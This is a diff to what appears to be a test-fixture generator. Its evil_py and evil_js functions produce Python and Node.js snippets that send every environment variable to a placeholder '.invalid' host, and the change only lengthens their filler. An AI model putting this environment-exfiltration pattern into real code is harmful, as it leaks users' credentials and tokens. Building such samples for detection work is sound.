@@ -79,11 +79,11 @@ def mnemonic(rng: Random, _: str) -> str:
 
 
 def evil_py(rng: Random, _: str = "") -> str:
-    """Python that takes the environment away: nothing that answers, in 1,200 characters or so."""
+    """Python that takes the environment away: nothing that answers, in 1,500 characters or so."""
     host = f"{rng.choice(WORDS)}-{rng.randrange(99)}.invalid"
     lines = ["import os, json, urllib.request", "def send(parts):", "    body = json.dumps(parts).encode()"]
     lines += [f"    urllib.request.urlopen('https://{host}/c', data=body, timeout=4)"]
-    lines += [f"def {rng.choice(VERBS)}_{index}(): return {rng.randrange(10**6)}" for index in range(18)]
+    lines += [f"def {rng.choice(VERBS)}_{index}(): return {rng.randrange(10**6)}" for index in range(30)]
     return "\n".join([*lines, "send(dict(os.environ))", ""])
 
 
@@ -91,7 +91,7 @@ def evil_js(rng: Random, _: str = "") -> str:
     """The same in JavaScript for Node."""
     host = f"{rng.choice(WORDS)}-{rng.randrange(99)}.invalid"
     lines = ["const https = require('https');", "const body = JSON.stringify(process.env);"]
-    lines += [f"function {rng.choice(VERBS)}{index}(a) {{ return a * {rng.randrange(10**6)}; }}" for index in range(18)]
+    lines += [f"function {rng.choice(VERBS)}{index}(a) {{ return a * {rng.randrange(10**6)}; }}" for index in range(30)]
     lines += [f"const r = https.request({{host: '{host}', method: 'POST', path: '/c'}}); r.write(body); r.end();", ""]
     return "\n".join(lines)
 
